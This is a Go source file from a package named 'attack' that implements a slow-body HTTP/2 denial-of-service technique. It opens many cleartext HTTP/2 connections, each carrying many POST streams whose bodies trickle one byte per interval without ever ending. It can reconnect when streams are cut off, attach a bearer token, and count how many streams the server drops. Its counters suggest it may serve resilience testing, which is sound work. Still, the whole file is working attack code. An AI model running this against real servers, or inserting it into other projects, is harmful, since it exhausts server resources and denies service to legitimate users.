package attack

import (
	"context"
	"errors"
	"io"
	"net/http"
	"sync"
	"time"

	"golang.org/x/net/http2"
)

// SlowBodiesHTTP2 opens conns cleartext HTTP/2 connections with streams
// requests each, every one a POST whose body trickles in (t), and returns
// when ctx ends or, without t.Reconnect, when the server has cut every
// stream off: answered it or reset it before its body was complete.
func SlowBodiesHTTP2(ctx context.Context, target Target, conns, streams int, t Trickle, p *Progress) {
	t = t.withDefaults()
	var wg sync.WaitGroup
	for range conns {
		wg.Go(func() {
			for ctx.Err() == nil {
				if !slowHTTP2Conn(ctx, target, streams, t, p) || !t.Reconnect {
					return
				}
			}
		})
	}
	wg.Wait()
}

// slowHTTP2Conn runs streams trickling requests on one connection, each
// replaced when cut off if t.Reconnect, until ctx ends or the connection
// is gone; false when ctx has ended.
func slowHTTP2Conn(ctx context.Context, target Target, streams int, t Trickle, p *Progress) bool {
	conn, retry := dial(ctx, target.Addr)
	if conn == nil {
		return retry
	}
	defer conn.Close()
	tr := &http2.Transport{AllowHTTP: true}
	cc, err := tr.NewClientConn(conn)
	if err != nil {
		return false
	}
	defer cc.Close()
	var wg sync.WaitGroup
	for range streams {
		wg.Go(func() {
			for slowHTTP2Request(ctx, cc, target, t, p) && t.Reconnect && ctx.Err() == nil && cc.CanTakeNewRequest() {
			}
		})
	}
	wg.Wait()
	return true
}

// slowHTTP2Request trickles one request; true when the server cut it off.
func slowHTTP2Request(ctx context.Context, cc *http2.ClientConn, target Target, t Trickle, p *Progress) bool {
	body := &trickleBody{ctx: ctx, interval: t.Interval, closed: make(chan struct{})}
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://"+target.Addr+t.Path, body)
	if err != nil {
		return false
	}
	req.Header.Set("Content-Type", "application/proto")
	if target.Token != "" {
		req.Header.Set("Authorization", "Bearer "+target.Token)
	}
	p.started.Add(1)
	resp, err := cc.RoundTrip(req)
	if ctx.Err() != nil {
		return false
	}
	if err == nil {
		_, _ = io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
	}
	p.cut.Add(1)
	return true
}

// trickleBody is a request body that yields one byte per interval and never
// ends, until ctx ends or the transport closes it (when the server has
// answered).
type trickleBody struct {
	ctx       context.Context
	interval  time.Duration
	closed    chan struct{}
	closeOnce sync.Once
}

func (b *trickleBody) Read(p []byte) (int, error) {
	if len(p) == 0 {
		return 0, nil
	}
	if !tick(b.ctx, b.closed, b.interval) {
		return 0, errors.New("trickle stopped")
	}
	p[0] = 0
	return 1, nil
}

func (b *trickleBody) Close() error {
	b.closeOnce.Do(func() { close(b.closed) })
	return nil
}
